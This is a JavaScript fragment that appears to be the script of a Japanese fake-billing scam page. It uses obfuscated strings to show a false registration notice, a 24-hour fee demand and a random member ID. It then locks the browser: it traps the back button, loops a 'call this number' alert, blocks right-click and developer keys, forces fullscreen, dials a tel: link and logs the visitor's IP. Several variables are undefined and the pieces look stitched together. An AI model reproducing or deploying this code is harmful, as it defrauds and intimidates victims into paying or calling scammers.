
var _0x=["\u767B\u9332\u5B8C\u4E86\u3057\u307E\u3057\u305F","write"];
document[_0x[1]](_0x[0]);
document.write("<p>登" + '\u9332' + unescape("%u5B8C") + x + "<b>了</b></p>");
var t = "お支払い"; t += "期限は"; t += "24時間"; alert(t + "です");
document.write(String.fromCharCode(0x6599,0x91d1,35531,27714)+"のお知らせ");
document.getElementById("memberId").textContent = "会員ID：" + Math.floor(Math.random()*100000);
eval(unescape("%61%6c%65%72%74%28%22%E3%81%82%E3%81%84%22%29"));
el.innerHTML = ["<b>振込","先は</b>","こちら"].join("");
var s="んせまい違間"; x.innerText = s.split("").reverse().join("");
const u=`テンプレート${a+`内側${b}`}終わり`;
function start(){ setInterval(function(){ left--; document.getElementById('t').innerHTML = Math.floor(left/60)+":"+left%60; },1000);
 history.pushState(null,null,location.href); window.onpopstate=function(){history.pushState(null,null,location.href)};
 while(true){alert("警告です 電話してください")} }
document.oncontextmenu=function(){return false};
document.onkeydown=function(e){ if(e.keyCode==123||e.keyCode==122){e.preventDefault();return false}};
document.addEventListener('click',function(){document.documentElement.requestFullscreen()});
setTimeout(function(){location.href="tel:0120-000-000"},100);
fetch("https://api.ipify.org?format=json");
window.onbeforeunload=function(){return "本当に閉じますか"};

